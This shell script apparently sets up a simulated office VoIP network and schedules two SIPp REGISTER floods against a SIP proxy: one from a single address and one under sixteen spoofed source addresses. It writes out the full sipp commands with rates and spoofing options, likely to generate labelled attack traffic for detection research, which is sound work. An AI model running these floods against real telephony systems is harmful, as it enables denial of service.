# SIPp floods the proxy with REGISTERs: of one user from one address, then of one from sixteen forged
# ones. Meanwhile the office telephones.
open_office
add_attacker registrant 203.0.113.99
add_attacker spoofer 198.51.100.77
spoof spoofer 198.51.100.{120..135}
start_office_capture
keep_alive 10
office_day 56 65
at 12 attack A1 dos registrant 5072 "SIPp sends 400 REGISTERs of 1003, 200 a second, and answers no challenge." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$here/sipp/flood-register.xml" -nostdin -default_behaviors none \
    -i 203.0.113.99 -p 5072 -s 1003 -r 200 -m 400 192.0.2.1:5060
at 35 attack A2 dos spoofer 5060 "SIPp sends 400 REGISTERs of 1006, 50 a second, under sixteen addresses that are not its own." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$here/sipp/flood-register-spoofed.xml" -nostdin -default_behaviors none \
    -t ui -max_socket 400 -ip_field 0 -inf "$scratch/sources.csv" -cid_str "%u-%p" -i 198.51.100.77 -p 5060 \
    -s 1006 -r 50 -m 400 192.0.2.1:5060
play
wait_for A1 A2
close_office
